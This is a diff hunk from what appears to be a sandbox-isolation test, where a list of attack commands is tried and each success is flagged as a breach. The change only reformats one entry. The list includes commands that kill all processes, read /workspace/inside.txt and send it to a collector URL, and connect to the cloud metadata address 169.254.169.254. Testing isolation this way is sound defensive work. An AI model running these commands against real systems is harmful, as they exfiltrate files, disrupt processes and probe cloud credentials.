@@ -159,8 +159,8 @@ def attacks(home: Path, victim: Path, collector_port: int, victim_pid: int) -> l
         f"kill -9 {os.getpid()} {QUIET} && {BREACH}",
         f"kill -9 -1 {QUIET}; ps -e -o pid= | grep -qx ' *{victim_pid}' && {BREACH}",
         # the network
-        (f"python3 -c \"import urllib.request; urllib.request.urlopen('{url}?k=' + open('/workspace/inside.txt').read())\""
-         f" {QUIET} && {BREACH}"),
+        (f"python3 -c \"import urllib.request; "
+         f"urllib.request.urlopen('{url}?k=' + open('/workspace/inside.txt').read())\" {QUIET} && {BREACH}"),
         f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {collector_port}), 2)\" {QUIET} && {BREACH}",
         f"python3 -c \"import socket; socket.create_connection(('::1', {collector_port}), 2)\" {QUIET} && {BREACH}",
         f"python3 -c \"import socket; socket.create_connection(('169.254.169.254', 80), 2)\" {QUIET} && {BREACH}",
